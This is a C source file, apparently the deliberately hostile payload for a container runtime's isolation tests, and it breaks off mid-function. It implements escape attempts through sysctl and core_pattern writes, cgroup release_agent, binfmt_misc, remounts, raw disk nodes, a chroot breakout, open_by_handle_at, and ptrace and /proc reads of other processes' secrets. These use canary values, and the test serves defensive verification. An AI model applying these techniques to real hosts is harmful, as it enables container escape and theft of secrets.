/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * attack: machina's hostile payload (test/integration/attacks.test.ts).
 *
 *   attack run KEY=VALUE... [only=NAME,NAME]   run the escape attempts, one JSON line each:
 *       {"attack":"NAME","rc":N,"errno":"EPERM","data":"what was read","note":"..."}
 *   attack init                                 a PID 1 that reaps and sleeps (background container)
 *   attack host-handle PATH                     (host) print PATH's file handle as TYPE:HEX
 *   attack host-gettz | host-settz MINUTESWEST  (host) the kernel's timezone (sys_tz)
 *   attack host-addkey DESC PAYLOAD | host-unlinkkey ID   (host) a key in root's user keyring
 *
 * The program never decides whether an attempt escaped: it prints what it did and what it read,
 * and the test inspects the HOST afterwards (a sysctl's value, a file, a mount, a key, a process)
 * or looks for a secret only the host knows in "data". Every attempt is built to be harmless if it
 * succeeds: values the host saves and restores, invalid arguments that fail after the privilege
 * check (kexec, modules, swap, acct, adjtimex), canary paths that do not exist.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/fanotify.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/reboot.h>
#include <net/if.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/io.h>
#include <sys/klog.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define MAXKV 64
static char *kv_key[MAXKV], *kv_val[MAXKV];
static int nkv;
static const char *only;

static const char *arg(const char *k) {
  for (int i = 0; i < nkv; i++)
    if (strcmp(kv_key[i], k) == 0) return kv_val[i];
  return NULL;
}
static const char *argd(const char *k, const char *d) {
  const char *v = arg(k);
  return v ? v : d;
}

/* ------------------------------------------------------------------ output */

static char data[65536];
static size_t datalen;
static char note[4096];

static void add(const char *fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  int n = vsnprintf(data + datalen, sizeof data - datalen, fmt, ap);
  va_end(ap);
  if (n > 0) datalen = datalen + (size_t)n >= sizeof data ? sizeof data - 1 : datalen + (size_t)n;
}
static void addbuf(const char *b, ssize_t n) {
  for (ssize_t i = 0; i < n && datalen + 1 < sizeof data; i++) data[datalen++] = b[i] ? b[i] : ' ';
  data[datalen] = 0;
}
static void addhex(const unsigned char *b, ssize_t n) {
  for (ssize_t i = 0; i < n; i++) add("%02x", b[i]);
}
static void nt(const char *fmt, ...) {
  size_t l = strlen(note);
  va_list ap;
  va_start(ap, fmt);
  vsnprintf(note + l, sizeof note - l, fmt, ap);
  va_end(ap);
}

static void jstr(const char *s) {
  putchar('"');
  for (const unsigned char *p = (const unsigned char *)s; *p; p++) {
    if (*p == '"' || *p == '\\') printf("\\%c", *p);
    else if (*p < 0x20 || *p >= 0x7f) printf("\\u%04x", *p);
    else putchar(*p);
  }
  putchar('"');
}

static void report(const char *name, long rc, int err) {
  printf("{\"attack\":");
  jstr(name);
  printf(",\"rc\":%ld,\"errno\":", rc);
  jstr(rc < 0 ? (strerrorname_np(err) ? strerrorname_np(err) : "?") : "");
  printf(",\"data\":");
  jstr(data);
  printf(",\"note\":");
  jstr(note);
  printf("}\n");
  fflush(stdout);
  datalen = 0;
  data[0] = 0;
  note[0] = 0;
}

/* ------------------------------------------------------------------ small tools */

static int write_file(const char *path, const char *val) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) {
    nt("open %s: %s; ", path, strerrorname_np(errno));
    return -errno;
  }
  ssize_t n = write(fd, val, strlen(val));
  int e = errno;
  close(fd);
  if (n < 0) {
    nt("write %s: %s; ", path, strerrorname_np(e));
    return -e;
  }
  nt("wrote %s; ", path);
  return 0;
}

static ssize_t read_file(const char *path, char *buf, size_t len, off_t off) {
  int fd = open(path, O_RDONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
  if (fd < 0) {
    nt("open %s: %s; ", path, strerrorname_np(errno));
    return -errno;
  }
  ssize_t n = pread(fd, buf, len, off);
  int e = errno;
  close(fd);
  if (n < 0) {
    nt("read %s: %s; ", path, strerrorname_np(e));
    return -e;
  }
  return n;
}

/* read PATH and append its content to data */
static int slurp(const char *path) {
  char buf[4096];
  ssize_t n = read_file(path, buf, sizeof buf - 1, 0);
  if (n < 0) return (int)n;
  nt("read %s (%zd bytes); ", path, n);
  add("[%s]", path);
  addbuf(buf, n);
  return 0;
}

static int mnt(const char *src, const char *dst, const char *type, unsigned long flags, const char *opts) {
  mkdir(dst, 0755);
  if (mount(src, dst, type, flags, opts) < 0) {
    nt("mount %s on %s: %s; ", type ? type : "(remount)", dst, strerrorname_np(errno));
    return -errno;
  }
  nt("mounted %s on %s; ", type ? type : "(remount)", dst);
  return 0;
}

static int remount_rw(const char *path) {
  if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0) {
    nt("remounted %s rw (bind); ", path);
    return 0;
  }
  int e = errno;
  if (mount(NULL, path, NULL, MS_REMOUNT, NULL) == 0) {
    nt("remounted %s rw; ", path);
    return 0;
  }
  nt("remount %s: %s/%s; ", path, strerrorname_np(e), strerrorname_np(errno));
  return -errno;
}

static int umount_all(const char *path) {
  int n = 0;
  while (n < 8 && umount2(path, MNT_DETACH) == 0) n++;
  nt("unmounted %s %d times (%s); ", path, n, strerrorname_np(errno));
  return n;
}

static bool want(const char *name) {
  if (!only) return true;
  size_t l = strlen(name);
  for (const char *p = only; (p = strstr(p, name)); p += l)
    if ((p == only || p[-1] == ',') && (p[l] == ',' || p[l] == 0)) return true;
  return false;
}

#define RUN(name) if (want(name))

/* ISO(name) { ... }: the attempt runs in a child with a private copy of the mount table (as a slave),
 * so what it unmounts or remounts cannot help the attempts after it */
static int iso_begin(void) {
  fflush(stdout);
  pid_t c = fork();
  if (c == 0) {
    if (unshare(CLONE_NEWNS) < 0) nt("unshare(CLONE_NEWNS): %s; ", strerrorname_np(errno));
    else if (mount(NULL, "/", NULL, MS_REC | MS_SLAVE, NULL) < 0) nt("rslave: %s; ", strerrorname_np(errno));
    return 0;
  }
  if (c > 0) waitpid(c, NULL, 0);
  return -1;
}
static int iso_end(void) {
  fflush(stdout);
  _exit(0);
}
#define ISO(name) for (int iso_ = want(name) ? iso_begin() : -1; iso_ == 0; iso_ = iso_end())

static const char *tmpd(const char *leaf) {
  static char buf[8][256];
  static int i;
  char *b = buf[i++ % 8];
  snprintf(b, 256, "%s/%s", argd("scratch", "/tmp/.attack"), leaf);
  mkdir(argd("scratch", "/tmp/.attack"), 0700);
  return b;
}

/* a device node where device nodes work: /dev (a tmpfs without nodev), else the scratch dir */
static const char *node(const char *leaf, mode_t type, dev_t dev) {
  static char p[8][256];
  static int i;
  char *b = p[i++ % 8];
  snprintf(b, 256, "/dev/.machina-%s", leaf);
  unlink(b);
  if (mknod(b, type | 0600, dev) == 0) return b;
  nt("mknod %s: %s; ", b, strerrorname_np(errno));
  snprintf(b, 256, "%s", tmpd(leaf));
  unlink(b);
  if (mknod(b, type | 0600, dev) == 0) return b;
  nt("mknod %s: %s; ", b, strerrorname_np(errno));
  return b;
}

/* ------------------------------------------------------------------ attempts */

static void sysctl_attempts(void) {
  /* each vector writes a different harmless, non-namespaced sysctl (the host saves and restores them) */
  RUN("sysctl-write") {
    int r = write_file("/proc/sys/kernel/printk_ratelimit", argd("v_printk_ratelimit", "7"));
    report("sysctl-write", r, -r);
  }
  ISO("sysctl-remount") {
    remount_rw("/proc/sys");
    int r = write_file("/proc/sys/kernel/printk_ratelimit_burst", argd("v_printk_ratelimit_burst", "17"));
    report("sysctl-remount", r, -r);
  }
  ISO("sysctl-umount") {
    umount_all("/proc/sys");
    int r = write_file("/proc/sys/fs/lease-break-time", argd("v_lease_break_time", "46"));
    report("sysctl-umount", r, -r);
  }
  ISO("sysctl-newproc") {
    const char *d = tmpd("proc");
    int r = mnt("proc", d, "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL);
    if (r == 0) {
      char p[300];
      snprintf(p, sizeof p, "%s/sys/kernel/hung_task_warnings", d);
      r = write_file(p, argd("v_hung_task_warnings", "11"));
      umount2(d, MNT_DETACH);
    }
    report("sysctl-newproc", r, -r);
  }
  ISO("sysctl-move") {
    const char *d = tmpd("procsys-moved");
    mkdir(d, 0755);
    int r = mount("/proc/sys", d, NULL, MS_MOVE, NULL);
    nt("move /proc/sys: %s; ", r < 0 ? strerrorname_np(errno) : "ok");
    r = write_file("/proc/sys/kernel/sched_rr_timeslice_ms", argd("v_sched_rr_timeslice_ms", "101"));
    report("sysctl-move", r, -r);
  }
  RUN("core-pattern") {
    char v[200];
    snprintf(v, sizeof v, "|/nonexistent/machina-canary-%s %%p", argd("token", "x"));
    int r = write_file("/proc/sys/kernel/core_pattern", v);
    report("core-pattern", r, -r);
  }
  ISO("sysrq-trigger") {
    umount_all("/proc/sysrq-trigger");
    int r = write_file("/proc/sysrq-trigger", "h");
    report("sysrq-trigger", r, -r);
  }
  RUN("sysfs-write") {
    int r = write_file("/sys/kernel/rcu_expedited", argd("v_rcu_expedited", "1"));
    report("sysfs-write", r, -r);
  }
  ISO("sysfs-remount") {
    remount_rw("/sys");
    int r = write_file("/sys/kernel/rcu_normal", argd("v_rcu_normal", "1"));
    report("sysfs-remount", r, -r);
  }
  ISO("sysfs-newmount") {
    const char *d = tmpd("sys");
    int r = mnt("sysfs", d, "sysfs", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL);
    if (r == 0) {
      char p[300];
      snprintf(p, sizeof p, "%s/kernel/mm/ksm/advisor_max_cpu", d);
      r = write_file(p, argd("v_ksm_advisor_max_cpu", "71"));
      umount2(d, MNT_DETACH);
    }
    report("sysfs-newmount", r, -r);
  }
  ISO("proc-mask-umount") {
    /* the masks over /proc/kallsyms, /proc/kcore, /proc/keys, /proc/timer_list: unmount, then read */
    const char *masked[] = {"/proc/kallsyms", "/proc/keys", "/proc/timer_list", "/proc/kcore"};
    for (size_t i = 0; i < sizeof masked / sizeof *masked; i++) {
      umount_all(masked[i]);
      char buf[2048];
      ssize_t n = read_file(masked[i], buf, sizeof buf - 1, 0);
      if (n > 0) {
        add("[%s]", masked[i]);
        addbuf(buf, n);
      }
    }
    report("proc-mask-umount", 0, 0);
  }
  ISO("binfmt-misc") {
    const char *d = tmpd("binfmt");
    int r = mnt("binfmt_misc", d, "binfmt_misc", 0, NULL);
    if (r < 0) r = mnt("binfmt_misc", "/proc/sys/fs/binfmt_misc", "binfmt_misc", 0, NULL), d = "/proc/sys/fs/binfmt_misc";
    if (r == 0) {
      char p[300], v[200];
      snprintf(p, sizeof p, "%s/register", d);
      snprintf(v, sizeof v, ":machina-canary-%s:E::mcnry%s::/nonexistent/machina-canary:", argd("token", "x"), argd("token", "x"));
      r = write_file(p, v);
      umount2(d, MNT_DETACH);
    }
    report("binfmt-misc", r, -r);
  }
  ISO("tracefs") {
    const char *d = tmpd("tracing");
    int r = mnt("tracefs", d, "tracefs", 0, NULL);
    if (r == 0) {
      char p[300], v[200];
      snprintf(p, sizeof p, "%s/trace_marker", d);
      snprintf(v, sizeof v, "machina-canary-trace-%s\n", argd("token", "x"));
      r = write_file(p, v);
      umount2(d, MNT_DETACH);
    }
    report("tracefs", r, -r);
  }
  RUN("kmsg-write") {
    char v[200];
    snprintf(v, sizeof v, "machina-canary-kmsg-%s\n", argd("token", "x"));
    int r = write_file("/dev/kmsg", v);
    r = write_file(node("kmsg", S_IFCHR, makedev(1, 11)), v);
    report("kmsg-write", r, -r);
  }
  RUN("syslog-read") {
    static char buf[1 << 20];
    int n = klogctl(3 /* SYSLOG_ACTION_READ_ALL */, buf, sizeof buf);
    int e = errno;
    if (n > 0) {
      /* only the tail: the host's token was written just before the run */
      int from = n > 8000 ? n - 8000 : 0;
      addbuf(buf + from, n - from);
    }
    {
      int fd = open(node("kmsg-r", S_IFCHR, makedev(1, 11)), O_RDONLY | O_NONBLOCK);
      if (fd >= 0) {
        lseek(fd, 0, SEEK_DATA); /* SEEK_DATA: from the start of the buffer */
        ssize_t m;
        char line[8192];
        while ((m = read(fd, line, sizeof line)) > 0) addbuf(line, m);
        close(fd);
      } else nt("open kmsg: %s; ", strerrorname_np(errno));
    }
    report("syslog-read", n, e);
  }
}

static const char *CG1[] = {"memory", "pids", "cpu", "cpuacct", "cpuset", "blkio", "devices", "freezer", "net_cls", "perf_event", "hugetlb", "rdma", "misc"};

static void cgroup_attempts(void) {
  char agent[200];
  ISO("cg1-release-agent") {
    snprintf(agent, sizeof agent, "/nonexistent/machina-canary-%s-new", argd("token", "x"));
    int r = -EPERM;
    for (size_t i = 0; i < sizeof CG1 / sizeof *CG1; i++) {
      char d[300], p[400];
      snprintf(d, sizeof d, "%s", tmpd(CG1[i]));
      if (mnt("cgroup", d, "cgroup", 0, CG1[i]) < 0) continue;
      snprintf(p, sizeof p, "%s/release_agent", d);
      if (write_file(p, agent) == 0) r = 0;
      snprintf(p, sizeof p, "%s/machina-canary-%s-cg1", d, argd("token", "x"));
      if (mkdir(p, 0755) == 0) nt("mkdir %s; ", p), rmdir(p);
      umount2(d, MNT_DETACH);
    }
    report("cg1-release-agent", r, -r);
  }
  ISO("cg1-remount-agent") {
    remount_rw("/sys/fs/cgroup");
    int r = -EPERM;
    for (size_t i = 0; i < sizeof CG1 / sizeof *CG1; i++) {
      char d[300], p[400], cur[200] = "";
      snprintf(d, sizeof d, "/sys/fs/cgroup/%s", CG1[i]);
      remount_rw(d);
      snprintf(p, sizeof p, "%s/release_agent", d);
      /* keep what the attempt before wrote: the host tells both apart */
      ssize_t n = read_file(p, cur, sizeof cur - 1, 0);
      cur[n > 0 ? n : 0] = 0;
      if (n > 0 && cur[n - 1] == '\n') cur[n - 1] = 0;
      if (strstr(cur, "machina-canary")) snprintf(agent, sizeof agent, "%s-remount", cur);
      else snprintf(agent, sizeof agent, "/nonexistent/machina-canary-%s-remount", argd("token", "x"));
      if (write_file(p, agent) == 0) r = 0;
    }
    report("cg1-remount-agent", r, -r);
  }
  ISO("cg2-escape") {
    /* a fresh cgroup2 mount: its root must be the container's own cgroup, never the host's root */
    const char *d = tmpd("cg2");
    int r = mnt("cgroup2", d, "cgroup2", 0, NULL);
    if (r == 0) {
      char p[400];
      snprintf(p, sizeof p, "%s/machina-canary-%s-cg2", d, argd("token", "x"));
      r = mkdir(p, 0755) < 0 ? -errno : 0;
      nt("mkdir %s: %s; ", p, r ? strerrorname_np(-r) : "ok");
      /* left for the host to find; it removes it */
      umount2(d, MNT_DETACH);
    }
    report("cg2-escape", r, -r);
  }
  ISO("cg2-remount") {
    remount_rw("/sys/fs/cgroup");
    remount_rw("/sys/fs/cgroup/unified");
    char p[400];
    snprintf(p, sizeof p, "/sys/fs/cgroup/unified/machina-canary-%s-cg2r", argd("token", "x"));
    int r = mkdir(p, 0755) < 0 ? -errno : 0;
    nt("mkdir %s: %s; ", p, r ? strerrorname_np(-r) : "ok");
    snprintf(p, sizeof p, "/sys/fs/cgroup/systemd/machina-canary-%s-cg2r", argd("token", "x"));
    if (mkdir(p, 0755) == 0) nt("mkdir %s; ", p);
    report("cg2-remount", r, -r);
  }
  ISO("raise-limits") {
    /* every pids.max / memory limit this process can reach: its own cgroup, the mount roots, fresh mounts */
    remount_rw("/sys/fs/cgroup");
    const char *ctl[][3] = {{"pids", "pids.max", "max"}, {"memory", "memory.limit_in_bytes", "-1"}, {"memory", "memory.memsw.limit_in_bytes", "-1"}};
    char own[4096];
    ssize_t n = read_file("/proc/self/cgroup", own, sizeof own - 1, 0);
    own[n > 0 ? n : 0] = 0;
    int ok = 0;
    for (size_t i = 0; i < 3; i++) {
      char d[300], p[700];
      snprintf(d, sizeof d, "/sys/fs/cgroup/%s", ctl[i][0]);
      remount_rw(d);
      const char *paths[3] = {"", NULL, NULL};
      char sub[512] = "";
      for (char *l = own; l && *l;) {
        char *e = strchr(l, '\n');
        if (e) *e = 0;
        char *c1 = strchr(l, ':'), *c2 = c1 ? strchr(c1 + 1, ':') : NULL;
        if (c1 && c2 && strstr(c1 + 1, ctl[i][0]) && c2 - c1 - 1 == (long)strlen(ctl[i][0])) snprintf(sub, sizeof sub, "%s", c2 + 1);
        if (e) *e = '\n';
        l = e ? e + 1 : NULL;
      }
      paths[1] = sub;
      for (size_t j = 0; j < 2; j++) {
        /* walk up from the own cgroup to the root */
        char cur[512];
        snprintf(cur, sizeof cur, "%s", paths[j]);
        for (;;) {
          snprintf(p, sizeof p, "%s%s/%s", d, cur, ctl[i][1]);
          if (write_file(p, ctl[i][2]) == 0) ok++;
          char *s = strrchr(cur, '/');
          if (!s) break;
          *s = 0;
        }
      }
      const char *m = tmpd(ctl[i][0]);
      if (mnt("cgroup", m, "cgroup", 0, ctl[i][0]) == 0) {
        snprintf(p, sizeof p, "%s/%s", m, ctl[i][1]);
        if (write_file(p, ctl[i][2]) == 0) ok++;
        umount2(m, MNT_DETACH);
      }
    }
    report("raise-limits", ok, 0);
  }
}

static void mount_attempts(void) {
  const char *tok = argd("token", "x");
  RUN("mount-propagate") {
    /* a mount made inside, after making everything shared, must never show up on the host */
    int r = mount(NULL, "/", NULL, MS_REC | MS_SHARED, NULL);
    nt("make-rshared /: %s; ", r < 0 ? strerrorname_np(errno) : "ok");
    char src[200];
    snprintf(src, sizeof src, "machina-canary-%s-root", tok);
    const char *d = tmpd("prop");
    r = mnt(src, d, "tmpfs", 0, "size=64k");
    if (mkdir("/machina-prop", 0755) == 0 || errno == EEXIST) mnt(src, "/machina-prop", "tmpfs", 0, "size=64k");
    report("mount-propagate", r, -r);
  }
  RUN("bind-propagate") {
    const char *b = arg("bindrw");
    int r = -ENOENT;
    if (b) {
      char src[200], p[300];
      snprintf(src, sizeof src, "machina-canary-%s-bind", tok);
      mount(NULL, b, NULL, MS_SHARED, NULL);
      snprintf(p, sizeof p, "%s/sub", b);
      r = mnt(src, p, "tmpfs", 0, "size=64k");
    }
    report("bind-propagate", r, -r);
  }
  ISO("bindro-remount") {
    const char *b = arg("bindro");
    int r = -ENOENT;
    if (b) {
      remount_rw(b);
      char p[300];
      snprintf(p, sizeof p, "%s/machina-canary-%s-bindro", b, tok);
      int fd = open(p, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
      r = fd < 0 ? -errno : 0;
      nt("create %s: %s; ", p, r ? strerrorname_np(-r) : "ok");
      if (fd >= 0) close(fd);
    }
    report("bindro-remount", r, -r);
  }
  ISO("rootro-remount") {
    remount_rw("/");
    char p[300];
    snprintf(p, sizeof p, "/machina-canary-%s-rootro", tok);
    int fd = open(p, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    int r = fd < 0 ? -errno : 0;
    nt("create %s: %s; ", p, r ? strerrorname_np(-r) : "ok");
    if (fd >= 0) close(fd);
    report("rootro-remount", r, -r);
  }
  ISO("disk-read") {
    /* a block node for the host's root disk: its superblock's UUID must stay unreadable */
    const char *dev = arg("disk");
    int r = -ENOENT;
    if (dev) {
      unsigned ma, mi;
      sscanf(dev, "%u:%u", &ma, &mi);
      const char *d = node("disk", S_IFBLK, makedev(ma, mi));
      unsigned char buf[16];
      ssize_t n = read_file(d, (char *)buf, sizeof buf, 1024 + 0x68);
      if (n > 0) addhex(buf, n);
      r = n < 0 ? (int)n : 0;
    }
    report("disk-read", r, -r);
  }
  ISO("disk-mount") {
    const char *dev = arg("disk"), *sec = arg("secretfs");
    int r = -ENOENT;
    if (dev && sec) {
      unsigned ma, mi;
      sscanf(dev, "%u:%u", &ma, &mi);
      const char *d = node("disk2", S_IFBLK, makedev(ma, mi)), *m = tmpd("diskmnt");
      r = mnt(d, m, "ext4", MS_RDONLY, "noload");
      if (r == 0) {
        char p[600];
        snprintf(p, sizeof p, "%s%s", m, sec);
        slurp(p);
        umount2(m, MNT_DETACH);
      }
    }
    report("disk-mount", r, -r);
  }
  RUN("chroot-breakout") {
    /* in a child: if it broke out, nothing after it may run with the host's root */
    fflush(stdout);
    pid_t c = fork();
    if (c > 0) {
      waitpid(c, NULL, 0);
    } else if (c == 0) {
    const char *sec = arg("secret");
    const char *d = tmpd("chroot");
    mkdir(d, 0755);
    int r = chroot(d);
    nt("chroot: %s; ", r < 0 ? strerrorname_np(errno) : "ok");
    for (int i = 0; i < 64; i++) chdir("..");
    r = chroot(".");
    if (sec) slurp(sec);
    report("chroot-breakout", r, errno);
    _exit(0);
    }
  }
  RUN("open-by-handle") {
    /* the host hands over the secret file's real handle (a perfect guess of a brute force) */
    const char *h = arg("handle"), *hd = arg("dirhandle"), *name = arg("secretname");
    int r = -EINVAL;
    const char *hs[2] = {h, hd};
    for (int k = 0; k < 2; k++) {
      if (!hs[k]) continue;
      static unsigned char hb[sizeof(struct file_handle) + 128];
      struct file_handle *fh = (struct file_handle *)hb;
      memset(hb, 0, sizeof hb);
      int type;
      char hex[300];
      if (sscanf(hs[k], "%d:%299s", &type, hex) != 2) continue;
      fh->handle_type = type;
      fh->handle_bytes = (unsigned)strlen(hex) / 2;
      for (unsigned i = 0; i < fh->handle_bytes && i < 128; i++) sscanf(hex + 2 * i, "%2hhx", &hb[sizeof(struct file_handle) + i]);
      int mfd = open("/", O_RDONLY | O_DIRECTORY);
      int fd = open_by_handle_at(mfd, fh, k == 0 ? O_RDONLY : O_RDONLY | O_DIRECTORY);
      r = fd < 0 ? -errno : 0;
      nt("open_by_handle_at %s: %s; ", k ? "dir" : "file", r ? strerrorname_np(-r) : "ok");
      if (fd >= 0) {
        char buf[512];
        int f2 = k == 0 ? dup(fd) : openat(fd, name ? name : "secret", O_RDONLY);
        ssize_t n = f2 >= 0 ? read(f2, buf, sizeof buf) : -1;
        if (n > 0) addbuf(buf, n);
        close(fd);
        if (f2 >= 0) close(f2);
      }
      close(mfd);
    }
    report("open-by-handle", r, -r);
  }
}

static void addr_range(pid_t pid, unsigned long *s, unsigned long *e) {
  char p[64], buf[4096];
  *s = *e = 0;
  snprintf(p, sizeof p, "/proc/%d/stat", pid);
  ssize_t n = read_file(p, buf, sizeof buf - 1, 0);
  if (n <= 0) return;
  buf[n] = 0;
  char *c = strrchr(buf, ')');
  if (!c) return;
  /* fields after ")": state is field 3; env_start / env_end are fields 50 and 51 */
  int f = 2;
  for (char *t = strtok(c + 1, " "); t; t = strtok(NULL, " ")) {
    f++;
    if (f == 50) *s = strtoul(t, NULL, 10);
    if (f == 51) *e = strtoul(t, NULL, 10);
  }
}

/* read another process's environment through /proc, process_vm_readv and ptrace */
static int steal_env(pid_t pid, bool use_ptrace) {
  char p[64];
  int got = 0;
  snprintf(p, sizeof p, "/proc/%d/environ", pid);
  if (slurp(p) == 0) got++;
  unsigned long s, e;
  addr_range(pid, &s, &e);
  if (s && e > s) {
    size_t len = e - s > 8192 ? 8192 : e - s;
    char buf[8192];
    struct iovec l = {buf, len}, r = {(void *)s, len};
    ssize_t n = process_vm_readv(pid, &l, 1, &r, 1, 0);
    if (n > 0) {
      add("[vm_readv %d]", pid);
      addbuf(buf, n);
      got++;
    } else nt("process_vm_readv %d: %s; ", pid, strerrorname_np(errno));
  }
  if (use_ptrace) {
    /* SEIZE + INTERRUPT, not ATTACH: no SIGSTOP is left pending to freeze the process after DETACH */
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
      nt("attached %d; ", pid);
      ptrace(PTRACE_INTERRUPT, pid, 0, 0);
      int st;
      for (int i = 0; i < 200 && waitpid(pid, &st, __WALL | WNOHANG) == 0; i++) usleep(1000);
      add("[peek %d]", pid);
      for (unsigned long a = s; s && a < e && a < s + 4096; a += sizeof(long)) {
        errno = 0;
        long w = ptrace(PTRACE_PEEKDATA, pid, a, 0);
        if (errno) break;
        addbuf((char *)&w, sizeof w);
      }
      ptrace(PTRACE_DETACH, pid, 0, 0);
      got++;
    } else nt("ptrace %d: %s; ", pid, strerrorname_np(errno));
  }
  return got;
}

static void process_attempts(void) {
  pid_t hp = arg("hostpid") ? atoi(arg("hostpid")) : 0;
  RUN("hostpid-environ") {
    int r = hp ? steal_env(hp, true) : 0;
    char p[600];
    if (hp && arg("secret")) {
      snprintf(p, sizeof p, "/proc/%d/root%s", hp, arg("secret"));
      slurp(p);
    }
    report("hostpid-environ", r, 0);
  }
  RUN("hostpid-kill") {
    int r = hp ? kill(hp, SIGKILL) : -1;
    nt("kill(%d): %s; ", hp, r < 0 ? strerrorname_np(errno) : "ok");
    report("hostpid-kill", r, errno);
  }
  RUN("leaked-fds") {
    DIR *d = opendir("/proc/self/fd");
    int self = d ? dirfd(d) : -1;
    struct dirent *e;
    int extra = 0;
    while (d && (e = readdir(d))) {
      int fd = atoi(e->d_name);
      if (e->d_name[0] == '.' || fd <= 2 || fd == self) continue;
      char p[64], t[512];
      snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
      ssize_t n = readlink(p, t, sizeof t - 1);
      t[n > 0 ? n : 0] = 0;
      add("fd %d -> %s; ", fd, t);
      extra++;
      /* try to walk out of a leaked directory */
      if (arg("secret")) {
        char rel[700];
        snprintf(rel, sizeof rel, "../../../../../../../../../..%s", arg("secret"));
        int f = openat(fd, rel, O_RDONLY);
        if (f >= 0) {
          char buf[256];
          ssize_t m = read(f, buf, sizeof buf);
          if (m > 0) addbuf(buf, m);
          close(f);
        }
      }
    }
    if (d) closedir(d);
    report("leaked-fds", extra, 0);
  }
}

/* Seccomp, CapBnd and NoNewPrivs of a process's /proc/PID/status, as one string */
static void confinement_of(pid_t pid, char *out, size_t sz) {
  char p[64], buf[8192];
  snprintf(p, sizeof p, "/proc/%d/status", pid);
  out[0] = 0;
  int fd = open(p, O_RDONLY | O_CLOEXEC);
  ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
  if (fd >= 0) close(fd);
  if (n <= 0) return;
  buf[n] = 0;
  for (char *l = strtok(buf, "\n"); l; l = strtok(NULL, "\n"))
    if (!strncmp(l, "Seccomp:", 8) || !strncmp(l, "CapBnd:", 7) || !strncmp(l, "NoNewPrivs:", 11))
      snprintf(out + strlen(out), sz - strlen(out), "%s;", l);
}

/* a loop over the container's processes, for processes the host enters (machinactl exec/shell) */
static void entered_attempts(void) {
  double secs = atof(argd("loop", "0"));
  if (secs <= 0 || !(want("entered-environ") || want("entered-root") || want("exe-overwrite"))) return;
  int ofd[256];
  int nofd = 0;
  char seen_env[65536] = "", seen_root[65536] = "";
  size_t le = 0, lr = 0;
  int attached = 0, wrote = 0, scanned = 0;
  static char kinds[1024];
  struct timespec t0, t;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  pid_t me = getpid(), parent = getppid();
  do {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      pid_t pid = atoi(e->d_name);
      if (pid <= 1 || pid == me || pid == parent) continue;
      scanned++;
      char p[600], exe[512];
      snprintf(p, sizeof p, "/proc/%d/exe", pid);
      ssize_t n = readlink(p, exe, sizeof exe - 1);
      exe[n > 0 ? n : 0] = 0;
      /* environment, memory (ptrace, process_vm_readv) */
      datalen = 0;
      data[0] = 0;
      steal_env(pid, true);
      if (strstr(note, "attached")) {
        /* attaching to a process the host put into the container gains something only while it
         * is not yet confined like the container's own processes (PID 1) */
        char mine[256], init[256];
        confinement_of(pid, mine, sizeof mine);
        confinement_of(1, init, sizeof init);
        bool confined = mine[0] && !strcmp(mine, init);
        attached++;
        add("{attached %d %s %s}", pid, exe, confined ? "confined" : "UNCONFINED");
        if (!strstr(kinds, exe[0] ? exe : "(unreadable exe)") && strlen(kinds) + strlen(exe) + 24 < sizeof kinds)
          snprintf(kinds + strlen(kinds), sizeof kinds - strlen(kinds), "%s%s", kinds[0] ? "," : "", exe[0] ? exe : "(unreadable exe)");
      }
      if (datalen && le + datalen + 64 < sizeof seen_env) le += (size_t)snprintf(seen_env + le, sizeof seen_env - le, "{%d %s}%s", pid, exe, data);
      /* its root, cwd and fds: a host directory there would open the host */
      datalen = 0;
      data[0] = 0;
      if (arg("secret")) {
        snprintf(p, sizeof p, "/proc/%d/root%s", pid, arg("secret"));
        slurp(p);
        snprintf(p, sizeof p, "/proc/%d/cwd/../../../../../../../../..%s", pid, arg("secret"));
        slurp(p);
        for (int fd = 0; fd < 64; fd++) {
          snprintf(p, sizeof p, "/proc/%d/fd/%d/../../../../../../../../..%s", pid, fd, arg("secret"));
          if (access(p, F_OK) == 0) slurp(p);
        }
      }
      if (datalen && lr + datalen + 64 < sizeof seen_root) lr += (size_t)snprintf(seen_root + lr, sizeof seen_root - lr, "{%d}%s", pid, data);
      /* keep an O_PATH handle on any executable, to reopen it for writing once it is no longer busy */
      if (nofd < 256 && n > 0) {
        int f = open(p[0] ? (snprintf(p, sizeof p, "/proc/%d/exe", pid), p) : p, O_PATH | O_CLOEXEC);
        if (f >= 0) ofd[nofd++] = f;
      }
      note[0] = 0;
    }
    if (d) closedir(d);
    for (int i = 0; i < nofd; i++) {
      char p[64];
      snprintf(p, sizeof p, "/proc/self/fd/%d", ofd[i]);
      int w = open(p, O_WRONLY | O_CLOEXEC);
      if (w >= 0) {
        /* rewrite the first byte with itself: the host sees a new mtime, the binary stays intact */
        unsigned char c;
        if (pread(w, &c, 1, 0) == 1 || (close(w), w = open(p, O_RDWR | O_CLOEXEC)) >= 0) {
          if (w >= 0 && pread(w, &c, 1, 0) == 1 && pwrite(w, &c, 1, 0) == 1) wrote++;
        }
        if (w >= 0) close(w);
      }
    }
